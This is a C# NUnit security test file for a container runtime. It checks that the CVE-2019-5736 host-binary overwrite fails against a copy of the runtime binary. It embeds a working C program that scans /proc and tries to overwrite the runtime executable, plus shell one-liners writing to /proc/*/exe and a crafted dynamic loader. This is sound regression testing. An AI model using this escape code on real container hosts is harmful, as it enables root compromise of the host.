using System.Security.Cryptography;
using Bulkhead.Tests.Support;
using NUnit.Framework;

namespace Bulkhead.Tests.Security;

/// <summary>A container writes to the runtime's own binary on the host, which root then executes. On a copy of it.</summary>
[TestFixture, NonParallelizable]
internal sealed class BinaryOverwriteTests
{
    private static readonly string[] s_capabilities = ["CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH"];
    private static readonly string s_asUser = string.Join(' ', User.Launcher);

    // Waits for a process whose program is not the image's, holds its file and tries to write to it as soon as nobody
    // executes it any more.
    private const string Overwriter = """
        #include <dirent.h>
        #include <fcntl.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <time.h>
        #include <unistd.h>
        #include <sys/stat.h>
        static dev_t device;
        static ino_t self, busybox, loaded;
        static int foreign(int file)
        {
            struct stat status;
            return fstat(file, &status) == 0 && S_ISREG(status.st_mode) && status.st_ino != self && status.st_ino != busybox && status.st_ino != loaded;
        }
        static void overwrite(int file)
        {
            char path[64], target[4096] = "";
            sprintf(path, "/proc/self/fd/%d", file);
            readlink(path, target, sizeof target - 1);
            printf("held %s\n", target);
            open("/fifo", O_RDONLY | O_NONBLOCK); // it may go on, and end
            time_t end = time(0) + 5;
            do {
                int out = open(path, O_WRONLY | O_TRUNC);
                if (out >= 0 && write(out, "#!/bin/sh\necho owned\n", 21) == 21) {
                    printf("overwritten\n");
                    exit(0);
                }
            } while (time(0) < end);
            printf("not written: %m\n");
            exit(0);
        }
        int main(int count, char **arguments)
        {
            struct stat status;
            setvbuf(stdout, 0, _IOLBF, 0);
            stat(arguments[0], &status);
            self = status.st_ino;
            stat("/bin/busybox", &status);
            busybox = status.st_ino;
            stat("/loaded", &status);
            loaded = status.st_ino;
            puts("watching");
            for (;;) {
                DIR *proc = opendir("/proc");
                for (struct dirent *entry; (entry = readdir(proc)); ) {
                    char path[64];
                    int pid = atoi(entry->d_name);
                    if (pid < 2)
                        continue;
                    sprintf(path, "/proc/%d/exe", pid);
                    int file = open(path, O_RDONLY);
                    if (file >= 0 && foreign(file))
                        overwrite(file);
                    close(file);
                }
                closedir(proc);
            }
        }
        """;

    [TestCase("/proc/self/exe"), TestCase("/link"), TestCase("/script"), TestCase("/loaded")]
    [CancelAfter(120_000)]
    public void An_exec_of_the_runtimes_own_binary_does_not_let_the_container_write_to_it_CVE_2019_5736(string program)
    {
        using TestContainer watcher = Watcher();
        (string binary, byte[] before) = Prepare(watcher);
        Start(watcher);

        Try(watcher, $"{binary} --root {watcher.Runtime.Root} exec {watcher.Id} {program} --log /fifo features");

        RequireAttack(watcher, program);
        Assert.That(Hash(binary), Is.EqualTo(before), watcher.Output);
    }

    [TestCase("/proc/self/exe"), TestCase("/link"), TestCase("/script"), TestCase("/loaded")]
    [CancelAfter(120_000)]
    public void A_run_of_the_runtimes_own_binary_does_not_let_another_container_write_to_it_CVE_2019_5736(string program)
    {
        using TestContainer watcher = Watcher();
        (string binary, byte[] before) = Prepare(watcher);
        Start(watcher);
        using var container = TestContainer.From(bundle =>
            bundle.Set("root.path", watcher.Bundle.Rootfs).Namespace("pid", $"/proc/{watcher.Init.Pid}/ns/pid").Process.Capabilities(s_capabilities).Args(program, "--log", "/fifo", "features"));

        Try(watcher, Attack.RunLine(container).Replace(Repository.RuntimeBinary, binary, StringComparison.Ordinal));

        RequireAttack(watcher, program);
        Assert.That(Hash(binary), Is.EqualTo(before), watcher.Output);
    }

    [Test, CancelAfter(60_000)]
    public void The_containers_first_process_can_not_write_to_the_binary_that_made_it_CVE_2019_5736()
    {
        // Its own /proc/self/exe is the image's; what it can reach of the runtime is the binary in its parent, if anything.
        using var container = TestContainer.From(bundle => bundle.Writable().WithoutNamespace("pid").Process.Capabilities("CAP_DAC_OVERRIDE").Shell("for p in /proc/[0-9]*; do readlink $p/exe | grep runtime-copy && (echo x >$p/exe) 2>&1; done"));
        (string binary, byte[] before) = Prepare(container);

        Result result = Attack.Shell(Attack.RunLine(container).Replace(Repository.RuntimeBinary, binary, StringComparison.Ordinal));

        Assert.That(Hash(binary), Is.EqualTo(before), result.ToString());
    }

    [TestCase("/proc/self/exe"), TestCase("/link"), TestCase("/script"), TestCase("/loaded")]
    [CancelAfter(120_000)]
    public void An_exec_of_a_user_without_privileges_does_not_let_the_container_write_to_the_users_own_binary_CVE_2019_5736(string program)
    {
        using TestContainer watcher = UsersWatcher();
        (string binary, byte[] before) = Prepare(watcher);
        User.Take(watcher);
        Start(watcher);

        Try(watcher, $"{s_asUser} {binary} --root {watcher.Runtime.Root} exec {watcher.Id} {program} --log /fifo features");

        RequireAttack(watcher, program);
        Assert.That(Hash(binary), Is.EqualTo(before), watcher.Output);
    }

    [TestCase("/proc/self/exe"), TestCase("/link"), TestCase("/script"), TestCase("/loaded")]
    [CancelAfter(120_000)]
    public void A_run_of_a_user_without_privileges_does_not_let_another_container_write_to_the_users_own_binary_CVE_2019_5736(string program)
    {
        using TestContainer watcher = UsersWatcher();
        (string binary, byte[] before) = Prepare(watcher);
        User.Take(watcher);
        Start(watcher);
        using TestContainer container = User.Container(bundle => bundle
            .Set("root.path", watcher.Bundle.Rootfs).Remove("linux.uidMappings").Remove("linux.gidMappings")
            .Namespace("user", $"/proc/{watcher.Init.Pid}/ns/user").Namespace("pid", $"/proc/{watcher.Init.Pid}/ns/pid")
            .Process.Capabilities(s_capabilities).Args(program, "--log", "/fifo", "features"));

        Try(watcher, $"{s_asUser} {Attack.RunLine(container).Replace(Repository.RuntimeBinary, binary, StringComparison.Ordinal)}");

        RequireAttack(watcher, program);
        Assert.That(Hash(binary), Is.EqualTo(before), watcher.Output);
    }

    // Root of the user's namespace is the user on the host, who owns the binary.
    private static TestContainer UsersWatcher() => User.Container(bundle =>
        bundle.Writable().Process.Capabilities(s_capabilities).Args("/overwriter"));

    private static TestContainer Watcher() => TestContainer.From(bundle =>
        bundle.Writable().Process.Capabilities(s_capabilities).Args("/overwriter"));

    private static void Start(TestContainer watcher)
    {
        watcher.Create().MustSucceed();
        watcher.Start().MustSucceed();
        watcher.WaitForOutput("watching");
    }

    private static void Try(TestContainer watcher, string line)
    {
        for (int i = 0; i < 20 && !watcher.Output.Contains("held", StringComparison.Ordinal); i++)
        {
            Attack.Shell($"timeout -s KILL 2 {line}");
        }

        if (watcher.Output.Contains("held", StringComparison.Ordinal))
        {
            watcher.WaitForOutput("written");
        }
    }

    // The process waits at the fifo, so that the attack can't miss it. A script's gets its arguments in another order, and
    // one with a loader executes a file of the image.
    private static void RequireAttack(TestContainer watcher, string program)
    {
        if (program is "/proc/self/exe" or "/link")
        {
            Assert.That(watcher.Output, Does.Contain("held"), "the attack has not come to the point");
        }
    }

    private static (string Binary, byte[] Hash) Prepare(TestContainer container)
    {
        string binary = container.Folder.File("runtime-copy");
        string rootfs = container.Bundle.Rootfs;
        File.Copy(Repository.RuntimeBinary, binary);
        CProgram.Compile(rootfs + "/overwriter", Overwriter);
        container.Bundle.Write("script", "#!/proc/self/exe features\n", (UnixFileMode)Convert.ToInt32("755", 8));
        File.CreateSymbolicLink(rootfs + "/link", "/proc/self/exe");

        Attack.Shell($"mkfifo {rootfs}/fifo").MustSucceed();

        // A dynamic program whose loader is /proc/self/exe.
        Attack.Shell($"echo 'int main(void) {{ return 0; }}' | gcc -xc - -o {rootfs}/loaded -Wl,--dynamic-linker=/proc/self/exe").MustSucceed();
        return (binary, Hash(binary));
    }

    private static byte[] Hash(string file) => SHA256.HashData(File.ReadAllBytes(file));
}
